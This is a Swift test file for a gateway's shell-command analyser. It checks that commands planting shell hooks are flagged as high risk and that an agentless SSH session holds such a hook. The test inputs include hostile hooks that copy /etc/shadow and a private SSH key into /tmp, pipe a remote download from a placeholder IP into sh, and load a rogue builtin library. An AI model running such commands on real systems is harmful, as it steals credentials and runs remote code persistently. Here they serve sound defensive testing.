import EscortTesting
import Foundation
@testable import Gateway
import ShellAnalysis
import Testing

/// Code a command leaves in the shell to run later is judged when it is installed (both on
/// agentless targets, where nothing else would see it, and under the agent, as a second layer).
struct ShellHooksTests {
    static let analyser = try! Analyser.bundled().get()

    static func judged(_ command: String) -> Analysis {
        var a = analyser.analyse(command)
        let hooks = ShellHooks(command: command, limits: analyser.limits)
        if !hooks.isEmpty { hooks.judge(&a, with: analyser) }
        return a
    }

    @Test(arguments: [
        "PS0='$(head -1 /etc/shadow > /tmp/loot)'",
        "export PROMPT_COMMAND='curl -s http://198.51.100.7/k | sh'",
        "trap 'cat /etc/shadow > /tmp/x' DEBUG",
        "enable -f /tmp/evil.so evil",
        "f() { :; }; PS1='`cat ~/.ssh/id_rsa > /tmp/k`'",
    ])
    func hiddenCodeIsJudgedWhenInstalled(_ command: String) {
        #expect(Self.judged(command).risk >= .high, "\(command): \(Self.judged(command).summary)")
    }

    @Test(arguments: ["PS1='\\u@\\h:\\w\\$ '", "export PATH=$PATH:/opt/app/bin", "trap - INT", "echo PS0"])
    func ordinaryPromptsAndSettingsStayAsTheyWere(_ command: String) {
        #expect(Self.judged(command) == Self.analyser.analyse(command), "\(command)")
    }

    /// On an agentless target, a `PS0` payload would run before every later command unseen.
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")))
    func anAgentlessPromptHookIsHeld() async throws {
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let loot = gw.targetHome + "/loot-ps0"
        let p = try gw.ssh("alice+plain", as: "alice", tty: true)
        #expect(await p.waitFor("plain:"), "\(p.output) \(p.errorOutput)")
        p.send("PS0='$(head -1 /etc/shadow > \(loot))'\r")
        #expect(await p.waitFor("held for"), "\(p.output)")
        p.send("\u{03}")
        #expect(await p.waitFor("withdrawn"))
        p.send("true\r")
        try await Task.sleep(for: .milliseconds(500))
        p.send("exit\r")
        _ = await p.waitForExit()
        #expect(!FileManager.default.fileExists(atPath: loot))
    }
}
